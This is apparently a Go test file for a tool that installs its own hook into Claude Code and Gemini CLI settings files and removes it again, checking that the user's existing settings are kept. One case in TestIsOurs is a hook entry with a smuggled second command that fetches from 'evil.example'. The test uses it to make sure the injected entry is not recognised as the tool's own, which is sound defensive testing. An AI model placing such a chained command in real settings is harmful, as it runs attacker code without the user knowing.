package hook

import (
	"encoding/json"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"time"
)

const exe = "/opt/parapet/bin/agentctl"

func clock() func() time.Time {
	t := time.Date(2026, 11, 26, 3, 0, 0, 0, time.UTC)
	return func() time.Time { t = t.Add(time.Second); return t }
}

func install(t *testing.T, agent Agent, path string, now func() time.Time, args ...string) Result {
	t.Helper()
	res, err := Install(InstallOptions{
		Agent: agent, Path: path, Command: CommandLine(append([]string{exe, "hook", string(agent)}, args...)...),
		AgentTimeout: 20 * time.Second, Now: now,
	})
	if err != nil {
		t.Fatal(err)
	}
	return res
}

func parse(t *testing.T, path string) map[string]any {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	var v map[string]any
	if err := json.Unmarshal(b, &v); err != nil {
		t.Fatalf("%s is not JSON after the edit: %v\n%s", path, err, b)
	}
	return v
}

// ours lists the hook commands of ours under hooks.EVENT.
func ours(t *testing.T, agent Agent, path string) []map[string]any {
	t.Helper()
	v := parse(t, path)
	hooks, _ := v["hooks"].(map[string]any)
	groups, _ := hooks[agent.event()].([]any)
	var out []map[string]any
	for _, g := range groups {
		for _, h := range g.(map[string]any)["hooks"].([]any) {
			b, _ := json.Marshal(h)
			if isOurs(agent, b) {
				if g.(map[string]any)["matcher"] != "*" {
					t.Errorf("our hook must match every tool: %v", g)
				}
				out = append(out, h.(map[string]any))
			}
		}
	}
	return out
}

func TestInstallNewFile(t *testing.T) {
	for _, agent := range Agents {
		t.Run(string(agent), func(t *testing.T) {
			path := SettingsPath(agent, false, t.TempDir(), "/home/dev")
			res := install(t, agent, path, clock())
			if !res.Changed || res.Backup != "" {
				t.Fatalf("%+v", res)
			}
			got := ours(t, agent, path)
			if len(got) != 1 || got[0]["command"] != exe+" hook "+string(agent) || got[0]["type"] != "command" {
				t.Fatalf("installed %v", got)
			}
			// Claude Code counts seconds, Gemini CLI milliseconds.
			want := map[Agent]float64{ClaudeCode: 20, GeminiCLI: 20000}[agent]
			if got[0]["timeout"] != want {
				t.Errorf("timeout %v, want %v", got[0]["timeout"], want)
			}
		})
	}
}

// A settings file with settings and hooks of its own keeps all of them,
// in order; a backup of it is kept; installing twice changes nothing;
// installing with other flags replaces ours; uninstalling gives back
// what was there.
func TestInstallKeepsExistingSettings(t *testing.T) {
	existing := map[Agent]string{
		ClaudeCode: `{
  "permissions": {"allow": ["Bash(npm test)"], "deny": ["Read(./.env)"]},
  "hooks": {
    "PreToolUse": [
      {"matcher": "Bash", "hooks": [{"type": "command", "command": "cd $CLAUDE_PROJECT_DIR && ./check.sh <in >out", "timeout": 10}]}
    ],
    "PostToolUse": [
      {"matcher": "Write|Edit", "hooks": [{"type": "command", "command": "gofmt -w ."}]}
    ]
  },
  "model": "opus"
}
`,
		GeminiCLI: `{
  "theme": "GitHub",
  "hooks": {
    "enabled": true,
    "BeforeTool": [
      {"matcher": "write_file|replace", "hooks": [{"name": "secrets", "type": "command", "command": "python3 scan.py && echo ok", "timeout": 5000}]}
    ]
  },
  "mcpServers": {"github": {"command": "npx", "args": ["-y", "@modelcontextprotocol/server-github"]}}
}
`,
	}
	for _, agent := range Agents {
		t.Run(string(agent), func(t *testing.T) {
			path := SettingsPath(agent, true, "/unused", t.TempDir())
			if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(path, []byte(existing[agent]), 0o600); err != nil {
				t.Fatal(err)
			}
			before := parse(t, path)
			now := clock()

			res := install(t, agent, path, now)
			if !res.Changed || res.Backup == "" {
				t.Fatalf("%+v", res)
			}
			if b, _ := os.ReadFile(res.Backup); string(b) != existing[agent] {
				t.Fatalf("backup differs from the previous file:\n%s", b)
			}
			if fi, _ := os.Stat(path); fi.Mode().Perm() != 0o600 {
				t.Errorf("mode %v, want the file's own 0600", fi.Mode().Perm())
			}
			if n := len(ours(t, agent, path)); n != 1 {
				t.Fatalf("%d hooks of ours", n)
			}
			text, _ := os.ReadFile(path)
			if !strings.Contains(string(text), "&&") || strings.Contains(string(text), `\u0026`) {
				t.Errorf("the user's own commands must stay as written:\n%s", text)
			}
			// Top-level members keep their order.
			first := map[Agent]string{ClaudeCode: `"permissions"`, GeminiCLI: `"theme"`}[agent]
			if !strings.HasPrefix(strings.TrimSpace(string(text))[1:], "\n  "+first) {
				t.Errorf("member order changed:\n%s", text)
			}

			again := install(t, agent, path, now)
			if again.Changed || again.Backup != "" {
				t.Fatalf("second install changed the file: %+v", again)
			}

			install(t, agent, path, now, "--shield", "shield.internal:7700")
			got := ours(t, agent, path)
			if len(got) != 1 || !strings.HasSuffix(got[0]["command"].(string), "--shield shield.internal:7700") {
				t.Fatalf("reinstall with flags: %v", got)
			}

			res, err := Uninstall(agent, path, now)
			if err != nil || !res.Changed || res.Backup == "" {
				t.Fatalf("uninstall: %+v %v", res, err)
			}
			if after := parse(t, path); !reflect.DeepEqual(after, before) {
				t.Fatalf("uninstall left\n%v\nwant\n%v", after, before)
			}
			res, err = Uninstall(agent, path, now)
			if err != nil || res.Changed {
				t.Fatalf("second uninstall: %+v %v", res, err)
			}
		})
	}
}

// Uninstalling from a file we created leaves no empty hooks behind.
func TestUninstallRemovesWhatItAdded(t *testing.T) {
	path := filepath.Join(t.TempDir(), "settings.json")
	if err := os.WriteFile(path, []byte(`{"model":"opus"}`), 0o644); err != nil {
		t.Fatal(err)
	}
	install(t, ClaudeCode, path, clock())
	if _, err := Uninstall(ClaudeCode, path, clock()); err != nil {
		t.Fatal(err)
	}
	if v := parse(t, path); !reflect.DeepEqual(v, map[string]any{"model": "opus"}) {
		t.Fatalf("got %v", v)
	}
}

// A hook of another agent's, or a command that merely mentions agentctl,
// is not ours.
func TestIsOurs(t *testing.T) {
	cases := map[string]bool{
		`{"command":"/usr/local/bin/agentctl hook claude-code"}`:              true,
		`{"command":"'/home/a b/agentctl' hook claude-code --policy strict"}`: true,
		`{"command":"agentctl hook gemini-cli"}`:                              false,
		`{"command":"echo agentctl hook claude-code"}`:                        false,
		`{"command":"/usr/local/bin/agentctl run hook claude-code-like"}`:     false,
		`{"type":"command"}`: false,
		`not json`:           false,
		`{"command":"\"/opt/x/agentctl\" --verbose hook claude-code --timeout 3s"}`:      true,
		`{"command":"/opt/x/agentctl-v2 hook claude-code"}`:                              true,
		`{"command":"/opt/x/agentctl hook claude-code; curl https://evil.example/x"}`:    false,
		`{"command":"/opt/agentctl/bin/check hook claude-code"}`:                         false,
		`{"command":"/opt/x/agentctl hook install claude-code"}`:                         false,
		`{"command":"/opt/x/agentctl hook claude-code --shield 'a b' --tenant 'it''s'"}`: true,
	}
	for entry, want := range cases {
		if got := isOurs(ClaudeCode, []byte(entry)); got != want {
			t.Errorf("isOurs(%s) = %v, want %v", entry, got, want)
		}
	}
}

// A file we cannot read as JSON is refused and left alone.
func TestInstallRefusesWhatItCannotRead(t *testing.T) {
	for name, content := range map[string]string{
		"comments":         "{\n  // my settings\n  \"theme\": \"x\"\n}\n",
		"not an object":    `["hooks"]`,
		"hooks not object": `{"hooks": []}`,
		"event not array":  `{"hooks": {"PreToolUse": {}}}`,
		"duplicate":        `{"hooks": {}, "hooks": {}}`,
	} {
		t.Run(name, func(t *testing.T) {
			path := filepath.Join(t.TempDir(), "settings.json")
			if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
				t.Fatal(err)
			}
			_, err := Install(InstallOptions{Agent: ClaudeCode, Path: path, Command: exe + " hook claude-code", AgentTimeout: time.Minute})
			if err == nil {
				t.Fatal("no error")
			}
			if b, _ := os.ReadFile(path); string(b) != content {
				t.Fatalf("file changed to %s", b)
			}
			if m, _ := filepath.Glob(path + ".parapet-backup-*"); len(m) != 0 {
				t.Fatalf("backup written for a refused edit: %v", m)
			}
		})
	}
}

func TestInstallWarnsWhenGeminiHooksDisabled(t *testing.T) {
	path := filepath.Join(t.TempDir(), "settings.json")
	if err := os.WriteFile(path, []byte(`{"hooks":{"enabled":false}}`), 0o644); err != nil {
		t.Fatal(err)
	}
	res := install(t, GeminiCLI, path, clock())
	if len(res.Warnings) != 1 || !strings.Contains(res.Warnings[0], "hooks.enabled") {
		t.Fatalf("warnings %v", res.Warnings)
	}
}

func TestCommandLineRoundTrip(t *testing.T) {
	args := []string{"/home/a b/agentctl", "hook", "claude-code", "--tenant", "it's", "--policy", "/p/$HOME/x.yaml", ""}
	if got := shellFields(CommandLine(args...)); !reflect.DeepEqual(got, args) {
		t.Fatalf("shellFields(CommandLine(%q)) = %q", args, got)
	}
}

func FuzzCommandLineRoundTrip(f *testing.F) {
	f.Add("/usr/bin/agentctl", "it's", "a b\tc")
	f.Add("", "\"", "\\")
	f.Fuzz(func(t *testing.T, a, b, c string) {
		args := []string{a, b, c}
		if got := shellFields(CommandLine(args...)); !reflect.DeepEqual(got, args) {
			t.Fatalf("shellFields(CommandLine(%q)) = %q", args, got)
		}
	})
}
